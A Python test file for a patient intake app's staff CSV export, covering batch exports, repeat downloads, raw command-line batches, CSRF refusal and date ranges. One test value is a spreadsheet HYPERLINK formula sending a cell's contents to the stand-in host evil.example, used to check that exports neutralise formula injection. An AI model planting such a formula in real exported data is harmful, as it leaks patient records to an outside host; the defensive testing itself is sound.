"""The staff side's "Export CSV": new submissions as a batch, a batch again, a date range."""

import hashlib
import shlex
from datetime import UTC, datetime, timedelta

from sqlalchemy import select

from intake import ehr
from intake.extensions import db
from intake.models import ExportBatch, Submission
from tests.csv_reading import BOM, HOSTILE, parse
from tests.staff_support import add_staff, add_submission, audit_events, log_in
from tests.support import csrf_token


def _export_new(client, excel: bool = True):
    token = csrf_token(client, "/staff/exports")
    data = {"csrf_token": token, **({"excel": "y"} if excel else {})}
    return client.post("/staff/exports/new", data=data)


def test_a_new_batch_larger_than_memory_keeps_is_served_whole_from_disk(app, client, monkeypatch):
    # The file is kept aside as the batch is hashed; past SPOOL_IN_MEMORY it goes to an
    # unnamed temporary file, which is served and then closed.
    monkeypatch.setattr("intake.ehr.downloads.SPOOL_IN_MEMORY", 1000)
    add_staff(app)
    for number in range(5):
        add_submission(app, {"visit_reason": f"Knee pain {number} " + "stairs " * 50})
    log_in(client)
    response = _export_new(client)
    assert response.status_code == 200
    data = response.get_data()
    assert len(data) > 1000
    _header, rows = parse(data)
    assert len(rows) == 5
    with app.app_context():
        batch = db.session.scalars(select(ExportBatch)).one()
        assert batch.sha256 == hashlib.sha256(data).hexdigest()
        assert b"".join(ehr.stream_batch(batch, "check")) == data


def test_export_page_counts_new_submissions(app, client):
    add_staff(app)
    add_submission(app)
    add_submission(app)
    log_in(client)
    html = client.get("/staff/exports").get_data(as_text=True)
    assert "2 submissions not exported yet." in html
    assert ">Export CSV</button>" in html
    assert "No exports yet." in html


def test_export_new_downloads_marks_and_can_be_downloaded_again(app, client):
    user_id = add_staff(app)
    first = add_submission(app, {"visit_reason": HOSTILE})
    second = add_submission(app, {"first_name": "Zoë", "last_name": "Núñez"})
    log_in(client)

    response = _export_new(client)
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    assert response.headers["Cache-Control"] == "no-store"
    data = response.get_data()
    assert data.startswith(BOM) and b"\r\n" in data  # the staff download is for Excel
    header, rows = parse(data)
    assert header[0] == "submission_id"
    assert {row["submission_id"] for row in rows} == {str(first), str(second)}
    by_id = {row["submission_id"]: row for row in rows}
    assert by_id[str(first)]["visit_reason"] == "'" + HOSTILE  # neutralised for a spreadsheet
    assert (by_id[str(second)]["first_name"], by_id[str(second)]["last_name"]) == ("Zoë", "Núñez")

    with app.app_context():
        batch = db.session.scalars(select(ExportBatch)).one()
        assert batch.created_by_id == user_id and batch.row_count == 2
        assert batch.sha256 == hashlib.sha256(data).hexdigest()
        marked = db.session.execute(select(Submission.export_batch_id, Submission.status)).all()
        assert marked == [(batch.id, "submitted")] * 2  # exported, still to be reviewed
        batch_id = batch.public_id

    # Nothing new is left: a second export says so and makes no batch.
    again = _export_new(client)
    assert again.status_code == 302
    assert "no new submissions" in client.get("/staff/exports").get_data(as_text=True)

    # The batch downloads again, byte for byte.
    page = client.get("/staff/exports").get_data(as_text=True)
    assert f"/staff/exports/{batch_id}.csv" in page
    repeat = client.get(f"/staff/exports/{batch_id}.csv")
    assert repeat.status_code == 200
    assert repeat.get_data() == data

    actions = [
        event["action"] for event in audit_events(app) if event["action"].startswith("export")
    ]
    assert actions[0] == "export.new" and actions.count("export.download") == 2
    assert all(
        e["actor_id"] == user_id for e in audit_events(app) if e["action"].startswith("export")
    )


FORMULA_ADDRESS = '=HYPERLINK("http://evil.example/?"&B2,"Open")'


def _cli_export(app, runner, path, *options: str):
    """A new batch made on the command line into `path`; returns the batch."""
    result = runner.invoke(args=["intake", "export-csv", *options, "-o", str(path)])
    assert result.exit_code == 0, result.output
    with app.app_context():
        (batch,) = ehr.recent_batches(1)
        return batch


def test_raw_cli_batch_is_listed_with_its_command_and_never_served_to_staff(
    app, client, runner, tmp_path
):
    user_id = add_staff(app)
    add_submission(app, {"address": FORMULA_ADDRESS})
    raw_file = tmp_path / "import.csv"
    batch = _cli_export(app, runner, raw_file, "--raw")
    assert '"=HYPERLINK(' in raw_file.read_text(encoding="utf-8")  # raw, as asked
    with app.app_context():
        command = ehr.batch_command(ehr.find_batch(batch.public_id))
    log_in(client)

    # Listed, marked as machine import with the command that writes it, and no download link.
    page = client.get("/staff/exports").get_data(as_text=True)
    assert "Machine import only" in page
    assert command in page
    assert f"/staff/exports/{batch.public_id}.csv" not in page

    # Asked for by its address anyway: refused with a page that says why, and no CSV.
    response = client.get(f"/staff/exports/{batch.public_id}.csv")
    assert response.status_code == 403
    assert response.headers["Content-Type"].startswith("text/html")
    assert "Content-Disposition" not in response.headers
    body = response.get_data(as_text=True)
    assert "This batch is for machine import only" in body
    assert command in body
    assert "HYPERLINK" not in body and "evil.example" not in body

    refused = [e for e in audit_events(app, "export.download") if e["actor_type"] == "staff"]
    assert [(e["actor_id"], e["target_id"], e["outcome"]) for e in refused] == [
        (user_id, str(batch.public_id), "refused")
    ]

    # The command shown writes the same raw file again, byte for byte.
    flask, app_option, module, *args = shlex.split(command)
    assert (flask, app_option, module) == ("flask", "--app", "wsgi")
    again = tmp_path / "again"
    again.mkdir()
    args[args.index("-o") + 1] = str(again / args[args.index("-o") + 1])
    result = runner.invoke(args=args)
    assert result.exit_code == 0, result.output
    assert next(again.iterdir()).read_bytes() == raw_file.read_bytes()


def test_cli_batch_that_is_not_raw_downloads_again_byte_for_byte(app, client, runner, tmp_path):
    user_id = add_staff(app)
    add_submission(app, {"address": FORMULA_ADDRESS})
    plain_file = tmp_path / "plain.csv"
    batch = _cli_export(app, runner, plain_file)
    log_in(client)
    page = client.get("/staff/exports").get_data(as_text=True)
    assert f"/staff/exports/{batch.public_id}.csv" in page
    response = client.get(f"/staff/exports/{batch.public_id}.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    data = response.get_data()
    assert data == plain_file.read_bytes()
    assert hashlib.sha256(data).hexdigest() == batch.sha256
    _header, (row,) = parse(data)
    assert row["address"] == "'" + FORMULA_ADDRESS
    downloads = [e for e in audit_events(app, "export.download") if e["actor_type"] == "staff"]
    assert [(e["actor_id"], e["outcome"]) for e in downloads] == [(user_id, "success")]


def test_export_new_without_a_token_is_refused_and_marks_nothing(app, client):
    add_staff(app)
    add_submission(app)
    log_in(client)
    response = client.post("/staff/exports/new", data={"excel": "y"})
    assert response.status_code == 400
    with app.app_context():
        assert db.session.scalars(select(ExportBatch)).all() == []
        assert db.session.scalars(select(Submission.status)).all() == ["submitted"]


def test_unknown_batch_is_404(app, client):
    add_staff(app)
    log_in(client)
    assert client.get("/staff/exports/not-a-batch.csv").status_code == 404
    assert client.get("/staff/exports/00000000-0000-4000-8000-000000000000.csv").status_code == 404


def test_date_range_export_marks_nothing(app, client):
    add_staff(app)
    now = datetime.now(UTC)
    recent = add_submission(app, submitted_at=now - timedelta(hours=1))
    add_submission(app, submitted_at=now - timedelta(days=40))
    log_in(client)
    today = now.date()
    start, end = today - timedelta(days=2), today + timedelta(days=1)
    response = client.get(f"/staff/exports/range.csv?from_date={start}&to_date={end}")
    assert response.status_code == 200
    _, rows = parse(response.get_data())
    assert [row["submission_id"] for row in rows] == [str(recent)]
    with app.app_context():
        assert db.session.scalars(select(ExportBatch)).all() == []
        assert set(db.session.scalars(select(Submission.status))) == {"submitted"}
    assert [e["action"] for e in audit_events(app, "export.range")] == ["export.range"]


def test_date_range_needs_two_dates_in_order(app, client):
    add_staff(app)
    log_in(client)
    missing = client.get("/staff/exports/range.csv?from_date=2026-11-01")
    assert missing.status_code == 400
    assert "Enter both dates." in missing.get_data(as_text=True)
    backwards = client.get("/staff/exports/range.csv?from_date=2026-11-10&to_date=2026-11-01")
    assert backwards.status_code == 400
    assert "The To date is before the From date." in backwards.get_data(as_text=True)
    assert audit_events(app, "export.range") == []
